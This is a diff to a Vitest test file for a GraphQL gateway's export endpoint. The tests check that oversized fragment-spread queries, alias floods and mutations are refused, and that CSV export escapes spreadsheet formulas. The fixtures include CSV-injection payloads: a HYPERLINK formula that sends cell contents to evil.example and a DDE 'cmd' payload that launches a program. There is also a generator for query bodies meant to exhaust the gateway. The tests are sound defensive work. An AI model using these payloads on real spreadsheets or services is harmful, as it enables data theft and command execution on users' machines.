@@ -1,6 +1,10 @@
-import { describe, expect, it } from "vitest";
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { csvField } from "../gateway/export";
-import { theGraph } from "./helpers/graph";
+import { createPartner, openPartnerStore } from "../gateway/partners";
+import { subgraphDatabaseUrl } from "../lib/database";
+import { startGraph, type RunningGraph } from "../scripts/graph";
+import { postQuery, theGraph } from "./helpers/graph";
 
 const graph = theGraph();
 const base = graph.gatewayUrl.replace(/\/graphql$/, "");
@@ -46,7 +50,83 @@ describe("an analyst taking answers away", () => {
     expect((await bad.json()).errors[0].extensions.code).toBe("BAD_USER_INPUT");
     const format = await exportQuery("xlsx", { query: `{ clusters { nodes { id } } }` });
     expect(format.status).toBe(400);
-    expect((await format.json()).errors[0].extensions).toEqual({ code: "BAD_USER_INPUT", argument: "format" });
+    expect((await format.json()).errors[0].extensions).toEqual({ code: "BAD_USER_INPUT", argument: "format", requestId: expect.any(String) });
+  });
+});
+
+describe("an export body built to exhaust the gateway", () => {
+  // 150,000 spreads of one fragment: about 750 KB, and 300,000 tokens once lexed.
+  const spreads = (count: number) => ({ query: `query { ${"...F ".repeat(count)}} fragment F on Query { __typename }` });
+
+  it("refuses the 150,000-fragment document with 413 before reading it, a smaller one over MAX_TOKENS with 400, and goes on answering", async () => {
+    const huge = await exportQuery("csv", spreads(150_000));
+    expect(huge.status).toBe(413);
+    expect((await huge.json()).errors[0].extensions.code).toBe("BODY_TOO_LARGE");
+    const many = await exportQuery("csv", spreads(15_000));
+    expect(many.status).toBe(400);
+    expect((await many.json()).errors[0].extensions.code).toBe("TOKEN_LIMIT_EXCEEDED");
+    const after = await exportQuery("ndjson", { query: `{ clusters(first: 1) { nodes { id } } }` });
+    expect(after.status).toBe(200);
+  });
+
+  it("runs the query through the gateway's own validation limits (too many aliases refused with its code), and refuses a mutation with 405", async () => {
+    const aliases = Array.from({ length: 16 }, (_, i) => `a${i}: clusters { totalCount }`).join(" ");
+    const refused = await exportQuery("csv", { query: `{ ${aliases} }` });
+    expect(refused.status).toBe(400);
+    expect((await refused.json()).errors[0].extensions.code).toBe("ALIAS_LIMIT_EXCEEDED");
+    const write = await exportQuery("csv", { query: `mutation M { __typename }` });
+    expect(write.status).toBe(405);
+    expect((await write.json()).errors).toEqual([{ message: "Only queries can be exported, not a mutation", extensions: { code: "BAD_REQUEST", requestId: expect.any(String) } }]);
+  });
+});
+
+// Writes would change what other stories count, so these run on a graph of their own, on databases of their own.
+describe("names a spreadsheet would run as formulas", () => {
+  const serverUrl = () => {
+    const url = new URL(inject("graph").postgresUrl);
+    url.pathname = "/exporthostile";
+    return url.toString();
+  };
+  let running: RunningGraph;
+  const hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
+
+  beforeAll(async () => {
+    running = await startGraph({ databaseUrl: serverUrl(), ports: "ephemeral", sampleData: "off", logLevel: "fatal", gatewaySecret: inject("gatewaySecret") });
+    const store = await openPartnerStore(subgraphDatabaseUrl(serverUrl(), "gateway"));
+    const { key } = await createPartner(store.em.fork(), { name: "Formula", id: `formula-${randomUUID().slice(0, 8)}` });
+    await store.close();
+    const source = { title: "Rejestr", document: "rejestr.pdf", publishedOn: "2025-01-01", language: "pl" };
+    for (const [i, name] of hostile.entries()) {
+      const created = await postQuery(running.gatewayUrl, `mutation Create($input: CreateOrganisationInput!) { createOrganisation(input: $input) { id } }`, { input: { id: `hostile-${i}`, name, kind: "NGO", country: "PL", source } }, { authorization: `Bearer ${key}` });
+      expect(created.errors).toBeUndefined();
+    }
+  });
+  afterAll(() => running?.stop());
+
+  it("exports each with a leading quote, quoted, so that a spreadsheet shows it as text; NDJSON keeps it as it is", async () => {
+    const body = JSON.stringify({ query: `{ organisations(first: 10) { nodes { id name } } }` });
+    const exported = (format: string) => fetch(`${running.gatewayUrl.replace(/\/graphql$/, "")}/export?format=${format}`, { method: "POST", headers: { "content-type": "application/json" }, body });
+    const csv = await (await exported("csv")).text();
+    const cells = Object.fromEntries(csv.trimEnd().split("\r\n").slice(1).map(line => [line.slice(0, line.indexOf(",")), line.slice(line.indexOf(",") + 1)]));
+    expect(cells).toEqual({
+      "hostile-0": `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
+      "hostile-1": `"'+1+cmd|' /C calc'!A0"`,
+      "hostile-2": `"'-2+3"`,
+      "hostile-3": `"'@SUM(1+1)"`,
+    });
+    const records = (await (await exported("ndjson")).text()).trimEnd().split("\n").map(line => JSON.parse(line));
+    expect(records.map(record => record.name).sort()).toEqual([...hostile].sort());
+  });
+
+  it("neutralises a text that starts with a tab or a carriage return too, and leaves numbers as numbers", () => {
+    expect([csvField("\tTab first"), csvField("\rReturn first"), csvField(-2), csvField("-2"), csvField(3.5), csvField("Lublin")]).toEqual([
+      `"'\tTab first"`,
+      `"'\rReturn first"`,
+      "-2",
+      `"'-2"`,
+      "3.5",
+      "Lublin",
+    ]);
   });
 });
 
